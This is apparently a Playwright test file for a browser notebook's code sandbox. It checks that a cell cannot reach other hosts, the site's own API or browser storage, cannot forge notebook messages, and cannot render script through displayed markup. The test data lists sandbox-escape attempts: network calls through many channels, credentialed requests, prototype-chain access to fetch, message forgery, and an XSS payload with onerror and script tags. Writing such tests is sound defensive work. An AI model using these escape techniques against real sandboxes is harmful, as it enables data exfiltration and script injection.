import type { AddressInfo } from 'node:net';
import { createServer, type Server } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { cellOf, expectState, outputOf, runCode } from './cellActions.ts';

// Another host, as far as the page's policy goes: it must stay silent whatever a cell does. (These tests provoke
// policy violations, which the shared fixtures forbid; so they do without them.)
let listener: Server;
let heard = 0;
let address: string;

test.beforeAll(async () => {
  listener = createServer((socket) => {
    heard += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  address = `127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
test.afterAll(() => listener.close());

test.beforeEach(async ({ page }) => {
  heard = 0;
  await page.goto('lessons/huber/');
});

/**
 * Has one run of a cell make all the attempts, one after another; what came of each, by its name.
 * @param attempts expressions, which may await.
 */
async function answersIn(
  page: Page,
  attempts: Record<string, string>,
  before = '',
): Promise<Record<string, string>> {
  const cell = cellOf(page, 'value-and-gradient');
  const made = Object.entries(attempts).map(
    ([name, attempt]) => `console.log(JSON.stringify([${JSON.stringify(name)}, String(${attempt})]));`,
  );
  await runCode(cell, [before, ...made, "'all tried'"].join('\n'));
  await expect(outputOf(cell)).toContainText('all tried');
  await expectState(cell, 'done');
  const lines = await outputOf(cell).locator('.line').allTextContents();
  return Object.fromEntries(lines.map((line) => JSON.parse(line)));
}

/** Expressions whose `reached` says that they got out. */
const attempts: Record<string, string> = {
  fetch: "await fetch('http://HOST/').then(() => 'reached', String)",
  XMLHttpRequest:
    "await new Promise((done) => { try { const x = new XMLHttpRequest(); x.onload = () => done('reached'); x.onerror = () => done('refused'); x.open('GET', 'http://HOST/'); x.send(); } catch (e) { done(String(e)); } })",
  WebSocket:
    "await new Promise((done) => { try { const s = new WebSocket('ws://HOST/'); s.onopen = () => done('reached'); s.onerror = () => done('refused'); } catch (e) { done(String(e)); } })",
  EventSource:
    "await new Promise((done) => { try { const s = new EventSource('http://HOST/'); s.onopen = () => done('reached'); s.onerror = () => { s.close(); done('refused'); }; } catch (e) { done(String(e)); } })",
  sendBeacon: "String(Reflect.get(navigator, 'sendBeacon')?.call(navigator, 'http://HOST/') ?? 'refused')",
  'dynamic import': "await import('http://HOST/x.js').then(() => 'reached', String)",
  'data: import': "await import('data:text/javascript,fetch(`http://HOST/`)').then(() => 'reached', String)",
  importScripts:
    "(() => { try { importScripts('http://HOST/x.js'); return 'reached'; } catch (e) { return String(e); } })()",
  RTCPeerConnection: "String(typeof RTCPeerConnection === 'undefined' ? 'refused' : 'reached')",
  WebTransport: "String(typeof WebTransport === 'undefined' ? 'refused' : 'reached')",
  'nested worker': "String(typeof Worker === 'undefined' ? 'refused' : 'reached')",
  'web font':
    "await (async () => new FontFace('x', 'url(http://HOST/x.woff2)').load())().then(() => 'reached', String)",
  eval: '(() => { try { return (0, eval)("\'reached\'"); } catch (e) { return String(e); } })()',
  Function:
    "(() => { try { return new Function('return `reached`')(); } catch (e) { return String(e); } })()",
  'kernel without its guard':
    "await (async () => { const found = performance.getEntriesByType('resource').map((e) => e.name).find((n) => /Kernel/.test(n)); return found && typeof Worker !== 'undefined' ? 'reached' : 'refused'; })()",
};

test('a cell reaches no other host by any channel', async ({ page }) => {
  const named = Object.entries(attempts).map(([name, code]) => [name, code.replaceAll('HOST', address)]);
  const answers = await answersIn(page, Object.fromEntries(named));
  expect(Object.keys(answers)).toEqual(Object.keys(attempts));
  expect(Object.entries(answers).filter(([, answer]) => answer.includes('reached'))).toEqual([]);
  expect(heard).toBe(0);
});

// The book's own host may hold more than the book, and its cookies go to it: a cell must not reach it either.
const toOwnHost: Record<string, string> = {
  'fetch with cookies':
    "await fetch(self.origin + '/api/x', { method: 'POST', credentials: 'include' }).then(() => 'reached', String)",
  'fetch of a request': "await fetch(new Request(self.origin + '/api/x')).then(() => 'reached', String)",
  'the fetch of a prototype':
    "await (async () => { const behind: any[] = [self]; while (behind.at(-1)) behind.push(Object.getPrototypeOf(behind.at(-1))); const found = behind.filter(Boolean).map((each) => Object.getOwnPropertyDescriptor(each, 'fetch')?.value).filter(Boolean); return (await Promise.all(found.map((one) => one(self.origin + '/api/x').then(() => 'reached', String)))).join(); })()",
  XMLHttpRequest:
    "(() => { try { const x = new XMLHttpRequest(); x.open('POST', self.origin + '/api/x', false); x.send('x'); return 'reached'; } catch (e) { return String(e); } })()",
  WebSocket:
    "(() => { try { new WebSocket(self.origin.replace('http', 'ws') + '/api/x'); return 'reached'; } catch (e) { return String(e); } })()",
  EventSource:
    "(() => { try { new EventSource(self.origin + '/api/x'); return 'reached'; } catch (e) { return String(e); } })()",
  'a web font':
    "await (async () => new FontFace('x', 'url(' + self.origin + '/api/x)').load())().then(() => 'reached', String)",
  'the filter of a canvas':
    "(() => { const context = new OffscreenCanvas(9, 9).getContext('2d') as any; context.filter = 'url(' + self.origin + '/api/x#a)'; context.fillRect(0, 0, 9, 9); return context.getImageData(0, 0, 1, 1).data.length; })()",
  'a script': "await import(self.origin + '/api/x').then(() => 'reached', String)",
  tfjs: "await Promise.all([() => tf.util.fetch(self.origin + '/api/x'), () => tf.env().platform.fetch(self.origin + '/api/x'), () => tf.loadLayersModel(self.origin + '/api/x'), () => tf.io.http(self.origin + '/api/x').load!()].map(async (ask: any) => ask()).map((asked) => asked.then(() => 'reached', String)))",
  // Last: it leaves no fetch behind to try.
  'a fetch that was taken away':
    "await (async () => { try { delete (self as any).fetch; } catch {} return fetch(self.origin + '/api/x').then(() => 'reached', String); })()",
};

test('a cell asks the book’s own host for nothing by any channel', async ({ page }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('websocket', (socket) => asked.push(socket.url()));
  const answers = await answersIn(page, toOwnHost, "import * as tf from '@tensorflow/tfjs';");
  expect(Object.keys(answers)).toEqual(Object.keys(toOwnHost));
  expect(Object.entries(answers).filter(([, answer]) => answer.includes('reached'))).toEqual([]);
  expect(asked.filter((url) => url.includes('/api/'))).toEqual([]);
});

const kept: Record<string, string> = {
  'the document': "typeof document === 'undefined' && typeof window === 'undefined'",
  cookies: "typeof cookieStore === 'undefined'",
  localStorage: "typeof localStorage === 'undefined' && typeof sessionStorage === 'undefined'",
  IndexedDB:
    "typeof indexedDB === 'undefined' && !('indexedDB' in Object.getPrototypeOf(Object.getPrototypeOf(self)))",
  caches:
    "typeof caches === 'undefined' && !('caches' in Object.getPrototypeOf(Object.getPrototypeOf(self)))",
  'the private file system': "Reflect.get(navigator, 'storage') === undefined",
  'other tabs': "typeof BroadcastChannel === 'undefined' && Reflect.get(navigator, 'locks') === undefined",
  'service workers': "Reflect.get(navigator, 'serviceWorker') === undefined",
};

test('a cell cannot touch what the page and the browser keep', async ({ page }) => {
  const answers = await answersIn(page, kept);
  expect(answers).toEqual(Object.fromEntries(Object.keys(kept).map((what) => [what, 'true'])));
});

test('a cell cannot forge what the notebook says to the page', async ({ page }) => {
  const cell = cellOf(page, 'value-and-gradient');
  const other = cellOf(page, 'limits');
  const before = await outputOf(other).textContent();
  await runCode(
    cell,
    `const forged = { type: 'failed', run: 1, cell: 'limits', error: { message: 'forged', position: null, frame: '' } };
const tried: string[] = [];
const attempt = (name: string, act: () => void) => { try { act(); tried.push(name); } catch { tried.push('no ' + name); } };
attempt('postMessage', () => (self as any).postMessage(forged));
attempt('data', () => Object.defineProperty(MessageEvent.prototype, 'data', { get() { (this.target as any).postMessage(forged); return forged; } }));
const real = MessagePort.prototype.postMessage;
attempt('ports', () => { MessagePort.prototype.postMessage = function (m) { real.call(this, forged); }; });
self.addEventListener('message', (event) => (event.target as any).postMessage(forged));
attempt('dispatch', () => self.dispatchEvent(new MessageEvent('message', { data: forged })));
tried.length`,
  );
  await expectState(cell, 'done');
  await cell.getByRole('button', { name: 'Run' }).click();
  await expectState(cell, 'done');
  expect(await outputOf(other).textContent()).toBe(before);
  await expect(other).not.toHaveAttribute('data-state', 'failed');
});

test('markup that a cell shows is only markup: no script, no handler, no form', async ({ page }) => {
  const cell = cellOf(page, 'value-and-gradient');
  await runCode(
    cell,
    `display({ nodeType: 1, outerHTML: '<p id="harmless" onclick="alert(1)">text</p><script>alert(1)</script><style>body{display:none}</style><form action="/x"><input></form><img src="/mark.svg" onerror="alert(1)">' })`,
  );
  await expect(outputOf(cell)).toHaveText('text');
  expect(await outputOf(cell).locator('script, style, form, input, img, [onclick], [onerror]').count()).toBe(
    0,
  );
});
